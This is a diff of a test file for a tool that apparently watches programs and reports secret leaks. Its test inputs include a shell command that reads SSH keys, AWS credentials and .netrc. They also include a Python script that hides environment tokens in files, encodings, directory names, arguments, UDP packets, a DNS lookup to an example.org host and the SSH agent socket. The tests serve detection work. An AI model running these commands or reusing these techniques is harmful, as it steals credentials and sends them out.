@@ -56,10 +56,52 @@ def test_a_thief_finds_decoys_and_gives_itself_away(caller: Caller) -> None:
     seen = watch(
         caller, "/bin/sh", "-c", f"cat ~/.ssh/id_ed25519 {home}/.aws/credentials; cat ~/.netrc >stolen", homes=(home,)
     )
-    assert seen.canary.encode() in seen.result.stdout
+    assert b"BEGIN OPENSSH PRIVATE KEY" in seen.result.stdout
+    leaks = {event.what: event.detail for event in seen.events if event.kind is EventKind.LEAK}
+    assert leaks == {
+        "stdout": "~/.ssh/id_ed25519, ~/.aws/credentials in what is printed",
+        f"{caller.out}/stolen": "~/.netrc in what is written",
+    }
     reads = acts(seen, EventKind.READ)
     for path in (HOME / ".ssh/id_ed25519", home / ".aws/credentials", HOME / ".netrc"):
         assert reads[str(path)] == ""
+
+
+SPREAD = """
+import base64, os, socket, subprocess
+token = os.environ["GITHUB_TOKEN"]
+open("plain", "w").write("a" * 100_000 + token)
+open("coded", "wb").write(base64.b64encode(b"x" + os.environ["NPM_TOKEN"].encode()))
+os.mkdir(os.environ["TWINE_PASSWORD"].encode().hex())
+subprocess.run(["/bin/true", "--with=" + os.environ["OPENAI_API_KEY"]])
+udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+udp.connect(("127.0.0.1", 9))
+udp.send(os.environ["CARGO_REGISTRY_TOKEN"].encode())
+try: socket.getaddrinfo(os.environ["AWS_SECRET_ACCESS_KEY"] + ".example.org", 443)
+except OSError: pass
+try: socket.socket(socket.AF_UNIX).connect(os.environ["SSH_AUTH_SOCK"])
+except OSError: pass
+os.symlink("/", "away")
+print(token[::-1])
+"""
+
+
+def test_what_becomes_of_tokens_in_the_environment_is_seen_however_it_is_written(caller: Caller) -> None:
+    seen = watch(caller, PYTHON, "-I", "-c", SPREAD)
+    assert seen.result.exit_code == 0, seen.result.stderr
+    leaks = {event.what.rpartition("/")[2][:20]: event.detail for event in seen.events if event.kind is EventKind.LEAK}
+    assert leaks.pop("agent.1") == "$SSH_AUTH_SOCK in what is sent"
+    assert leaks.pop("true") == "$OPENAI_API_KEY in its words"
+    assert leaks.pop("a connection") == "$CARGO_REGISTRY_TOKEN in what is sent"
+    assert leaks.pop("stdout") == "$GITHUB_TOKEN in what is printed"
+    assert leaks.pop("plain") == "$GITHUB_TOKEN in what is written"
+    assert leaks.pop("coded") == "$NPM_TOKEN in what is written"
+    assert sorted(leaks.values()) == ["$AWS_SECRET_ACCESS_KEY in what is sent", "$TWINE_PASSWORD in its name"]
+
+
+def test_a_program_that_uses_no_secret_is_said_to_use_none(caller: Caller) -> None:
+    seen = watch(caller, "/bin/sh", "-c", 'echo hello >made; cat made; test -n "$GITHUB_TOKEN"')
+    assert acts(seen, EventKind.LEAK) == {}
 
 
 def test_whom_it_calls_is_seen_and_nobody_is_reached(caller: Caller) -> None:
